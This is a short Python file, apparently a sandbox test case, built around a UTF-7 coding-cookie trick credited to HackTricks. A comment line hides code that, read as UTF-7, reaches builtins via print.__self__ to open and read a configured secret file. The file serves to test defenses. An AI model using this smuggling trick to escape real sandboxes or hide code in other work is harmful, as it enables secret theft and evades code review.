# expect: done
# idea: claim coding: utf_7 in the second line, so that a comment holds a line of code in another reading
# source: HackTricks
#+AAo-print('ESCAPED: the cookie was obeyed', print.__self__.open(ctx.config['secret_file']).read())+AAo-
def tick(ctx):
    text = b"+AAo-import os+AAo-"
    try:
        print(text.decode("utf-7"))
    except Exception as error:
        print("refused:", error)
